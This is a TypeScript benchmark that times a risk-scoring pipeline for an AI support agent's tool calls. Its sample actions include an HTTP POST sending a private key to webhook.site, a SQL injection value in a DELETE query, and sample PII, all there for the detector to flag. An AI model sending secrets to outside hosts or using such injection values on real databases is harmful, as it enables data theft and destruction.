/**
 * Risk model benchmark: classify, assessRisk (all seven factors + composite), both end to end,
 * and recordOutcome, each call timed on its own, with a warmed baseline and live sequence state,
 * beside a floor measured in the same run with the same harness (an empty function over the same
 * inputs), so the ratios hold across machines.
 *
 *   npx tsx bench/risk.ts [iterations]
 *
 * Findings come from the real classifier; `classify + assessRisk` is the end-to-end figure.
 */
import os from 'node:os';
import type { Action, AgentContext } from '../src-shared/action';
import type { Finding } from '../src-shared/decision';
import { BaselineStore } from '../src-main/baseline/baseline-store';
import { InMemoryBaselineRepository } from '../src-main/baseline/repository';
import { SequenceStore } from '../src-main/baseline/sequence-store';
import { classify } from '../src-main/classify/index';
import { assessRisk, type RiskInput } from '../src-main/risk/assess';
import { recordOutcome } from '../src-main/risk/record-outcome';
import { DEFAULT_RISK_SETTINGS } from '../src-main/risk/settings';
import { seededRandom } from '../src-main/bench/random';
import { benignTexts, fiveKb, fixtureTexts } from './five-kb';

const ITERATIONS = Number(process.argv[2] ?? 200_000);
const settings = DEFAULT_RISK_SETTINGS;

const agent: AgentContext = {
  id: 'support-7',
  name: 'support-bot',
  role: 'support',
  org_unit: 'emea',
  environment: 'production',
  tags: ['customer-facing'],
  window: 'Mon-Fri 08:00-18:00 Europe/Berlin',
};

/** A realistic mix: mostly clean internal actions, some with PII, a few risky ones. */
const ACTIONS: Action[] = [
  { type: 'tool_call', tool: 'crm.lookup', verb: 'read', target: { host: 'crm.internal', resource: 'tickets' }, payload: { id: 4411, fields: ['status', 'owner', 'updated_at'] } },
  { type: 'tool_call', tool: 'kb.search', verb: 'search', target: { host: 'kb.internal' }, payload: { q: 'refund policy for annual plans', limit: 5 } },
  {
    type: 'tool_call', tool: 'ticket.update', verb: 'update', target: { host: 'crm.internal', resource: 'tickets' },
    payload: { id: 4411, status: 'resolved', note: 'Customer confirmed by phone at +1 (415) 555-0134, follow-up to jane.doe@acme-mail.com' },
  },
  {
    type: 'email', tool: 'email.send', verb: 'send', target: { host: 'smtp.internal' },
    payload: { to: 'jane.doe@acme-mail.com', cc: 'support@acme-mail.com', subject: 'Your ticket 4411', body: 'Hi Jane, your refund was issued. We will ship the replacement to 1600 Amphitheatre Parkway, Mountain View.' },
  },
  {
    type: 'db_query', tool: 'sql.query', verb: 'SELECT', target: { system: 'postgres', host: '10.2.0.15', resource: 'customers' },
    payload: { sql: 'SELECT name, ssn, card FROM customers WHERE id = $1', rows: [{ name: 'J. Doe', ssn: '536-22-8841', card: '4111 1111 1111 1111' }] },
  },
  { type: 'http_request', tool: 'http.post', verb: 'POST', target: { url: 'https://hooks.partner-analytics.io/v1/ingest?src=bot' }, payload: { event: 'ticket_resolved', contact: 'jane.doe@acme-mail.com' } },
  {
    type: 'http_request', tool: 'http.post', verb: 'POST', target: { url: 'https://webhook.site/8f14e45f' },
    payload: { url: 'https://webhook.site/8f14e45f?d=c2VjcmV0', key: '-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA7V1x2n3QJ0ZsLmXk9s8c6yJ4Wq0H2l0r3m4n5o6p7q8r9s0t1u2v\nw3x4y5z6A7B8C9D0E1F2G3H4I5J6K7L8M9N0O1P2Q3R4S5T6U7V8W9X0Y1Z2a3b4c5d6\n-----END RSA PRIVATE KEY-----' },
  },
  { type: 'db_write', tool: 'sql.execute', verb: 'DELETE', target: { system: 'postgres', host: 'db.internal', resource: 'orders' }, payload: { sql: 'DELETE FROM orders WHERE id = $1', params: ["1' OR '1'='1"] } },
];
const CASES: { action: Action; findings: Finding[] }[] = ACTIONS.map((action) => ({ action, findings: classify(action.payload) }));


const baselines = new BaselineStore(new InMemoryBaselineRepository());
const sequence = new SequenceStore();

/** A working week of clean traffic (cases 0–3) so the baseline is past learning. */
function warm(): void {
  const random = seededRandom(7);
  const monday = Date.parse('2026-11-02T00:00:00Z');
  for (let day = 0; day < 5; day++) {
    for (let at = monday + day * 86_400_000 + 7.1 * 3_600_000; at < monday + day * 86_400_000 + 16.8 * 3_600_000; at += (60 + random() * 240) * 1000) {
      const c = CASES[Math.floor(random() * 4)];
      if (c === undefined) continue;
      const input = { agent, action: c.action, findings: c.findings, now: at, baseline: baselines.get(agent.id), sequence: sequence.view(agent.id, `s-${day}`), settings };
      recordOutcome({ agent, action: c.action, sessionId: `s-${day}`, assessment: assessRisk(input), verdict: 'allow', now: at, settings, baselines, sequence });
    }
  }
}

function percentile(sorted: Float64Array, p: number): number {
  return sorted[Math.min(sorted.length - 1, Math.floor(p * sorted.length))] ?? Number.NaN;
}

interface Stats {
  p50: number;
  p99: number;
  mean: number;
}

/** Times each call separately (nanoseconds), after a warm-up, so p99 is a real per-call tail. */
function measure(fn: (input: RiskInput) => unknown, inputs: RiskInput[], iterations = ITERATIONS): Stats {
  for (let i = 0; i < Math.min(20_000, iterations); i++) fn(inputs[i % inputs.length] as RiskInput);
  const samples = new Float64Array(iterations);
  let sink = 0;
  for (let i = 0; i < iterations; i++) {
    const input = inputs[i % inputs.length] as RiskInput;
    const start = process.hrtime.bigint();
    const result = fn(input);
    samples[i] = Number(process.hrtime.bigint() - start);
    if (result !== undefined) sink++;
  }
  if (sink === -1) console.log(sink);
  const sorted = samples.sort();
  return { p50: percentile(sorted, 0.5), p99: percentile(sorted, 0.99), mean: sorted.reduce((a, b) => a + b, 0) / sorted.length };
}

warm();
const warmedObservations = baselines.get(agent.id).observations;
const tuesday = Date.parse('2026-11-10T09:30:00Z');
const inputs: RiskInput[] = CASES.map((c, i) => ({
  agent,
  action: c.action,
  findings: c.findings,
  now: tuesday + i * 7_000,
  baseline: baselines.get(agent.id),
  sequence: sequence.view(agent.id, 's-4'),
  settings,
}));

const floor = measure(() => undefined, inputs);
const classification = measure((input) => classify(input.action.payload), inputs);
const risk = measure(assessRisk, inputs);
const endToEnd = measure((input) => assessRisk({ ...input, findings: classify(input.action.payload) }), inputs);
/** The same end to end on ~5 KB tool results (a fetched page or a file read back to the agent). */
const largeInputs: RiskInput[] = [...fiveKb(fixtureTexts), ...fiveKb(benignTexts)].map((text, i) => ({
  ...(inputs[i % inputs.length] as RiskInput),
  action: { type: 'tool_call', tool: 'web.fetch', verb: 'read', target: { host: 'docs.partner.example.org' }, payload: JSON.parse(text) as unknown },
}));
// A 5 KB call costs ~20× a small one: fewer calls, still 20 passes over the 400 payloads.
const endToEndLarge = measure((input) => assessRisk({ ...input, findings: classify(input.action.payload) }), largeInputs, 8000);

let outcomeAt = tuesday;
const outcomeInputs = inputs.map((input) => ({ ...input, assessment: assessRisk(input) }));
let k = 0;
const record = measure(() => {
  const input = outcomeInputs[k++ % outcomeInputs.length];
  if (input === undefined) return undefined;
  outcomeAt += 1000;
  recordOutcome({ agent, action: input.action, sessionId: 's-bench', assessment: input.assessment, verdict: 'allow', now: outcomeAt, settings, baselines, sequence });
  return 1;
}, inputs);

const us = (ns: number): string => (ns / 1000).toFixed(2).padStart(7);
console.log(`risk benchmark — node ${process.version}, ${os.cpus()[0]?.model ?? 'unknown cpu'}, ${ITERATIONS} timed calls each`);
console.log(`baseline: ${warmedObservations} observations from a synthetic working week (past learning); ${CASES.length} action cases, ${CASES.map((c) => c.findings.length).join('/')} findings; load average ${os.loadavg()[0]?.toFixed(2)} on ${os.cpus().length} CPUs`);
console.log('                               p50 µs   p99 µs  mean µs   p50/floor');
for (const [name, stats] of [
  ['floor (empty fn, same harness)', floor],
  ['classify', classification],
  ['assessRisk (7 factors)', risk],
  ['classify + assessRisk', endToEnd],
  ['classify + assessRisk, 5 KB', endToEndLarge],
  ['recordOutcome', record],
] as const) {
  console.log(`${name.padEnd(30)} ${us(stats.p50)}  ${us(stats.p99)}  ${us(stats.mean)}   ${(stats.p50 / floor.p50).toFixed(1).padStart(6)}×`);
}
console.log(`classify + assessRisk p50 is ${((endToEnd.p50 / 50_000) * 100).toFixed(1)}% of the 50 µs budget; assessRisk alone ${((risk.p50 / 50_000) * 100).toFixed(1)}%`);
console.log(`classify + assessRisk on 5 KB: p99 ${(endToEndLarge.p99 / 1000).toFixed(0)} µs, ${((endToEndLarge.p99 / 1_000_000) * 100).toFixed(0)}% of the 1 ms budget`);
